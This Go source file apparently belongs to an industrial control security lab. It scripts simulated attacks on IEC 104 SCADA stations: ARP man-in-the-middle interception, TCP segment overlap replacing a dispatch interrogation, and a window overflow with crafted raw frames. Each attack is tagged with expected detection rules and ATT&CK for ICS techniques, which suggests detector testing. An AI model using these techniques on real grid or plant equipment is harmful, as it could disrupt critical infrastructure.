package script

import (
	"time"

	"github.com/roje-ot/roje/cmd/roje-lab/iec104station"
)

// actsWire are acts on the way between two ends.
var actsWire = []Act{
	{Name: "arp-mitm-centre", Title: "announcements to everybody draw a station's reports to its dispatch centre through an attacker", Actor: "rogue", Victims: []string{"scada-a", "rtu-2"},
		Expect: []string{"L01", "L02", "L03"}, Techniques: []string{"T0830"}, Virtual: true, Run: mitmAtCentre},
	{Name: "tcp-overlap", Title: "bytes of a session are said again with another content", Actor: "rogue", Victims: []string{"scada-a", "rtu-2"},
		Expect: []string{"P13"}, Techniques: []string{"T0830"}, Virtual: true, Malformed: true, Run: tcpOverlap},
	{Name: "iec104-window", Title: "a station gets more messages than may wait for an acknowledgement", Actor: "rogue", Victims: []string{"rtu-1"},
		Expect: []string{"P07", "A01"}, Techniques: []string{"T0814"}, Malformed: true, Run: iec104Act(1, func(m *iec104station.Session, s *Stage, a Act) error {
			var b []byte
			for ns := range byte(16) { // k is 12
				b = append(b, 0x68, 13, ns<<1, 0, 0, 0, 102, 1, iec104station.Requested, 0, 1, 0, byte(voltage&0xff), byte(voltage>>8), 0)
			}
			if err := send(m.Line, b); err != nil {
				return err
			}
			return m.Run(s.host(a.Actor).Now().Add(2 * time.Second))
		})},
}

// mitmAtCentre tells everybody once a second that the station is here, and passes its reports on.
func mitmAtCentre(s *Stage, a Act) error {
	rogue, centre, station := s.lan(a.Actor), s.lan(a.Victims[0]), s.lan(a.Victims[1])
	between := s.net.Intercept(rogue, centre, station)
	for range 15 {
		rogue.Announce(station.Addr, nil)
		rogue.Sleep(time.Second)
	}
	between.End = rogue.Now()
	station.Announce(station.Addr, nil) // the real one speaks up
	return nil
}

// tcpOverlap puts another interrogation in place of one that the dispatch centre has just sent.
func tcpOverlap(s *Stage, a Act) error {
	session := a
	session.Actor, session.Victims = a.Victims[0], a.Victims[1:]
	return iec104Act(2, func(m *iec104station.Session, s *Stage, _ Act) error {
		interrogation := func(qoi byte) *iec104station.ASDU {
			return &iec104station.ASDU{Type: 100, Cause: iec104station.Activation, Objects: []iec104station.Object{{Data: []byte{qoi}}}}
		}
		if err := m.Send(interrogation(20)); err != nil {
			return err
		}
		s.host(a.Actor).Sleep(3 * time.Millisecond)
		s.lan(a.Actor).Overwrite(m.Line.Conn, []byte{0x68, 14, 0, 0, 0, 0, 100, 1, 6, 0, 2, 0, 0, 0, 0, 21})
		return m.Run(s.host(a.Actor).Now().Add(3 * time.Second))
	})(s, session)
}
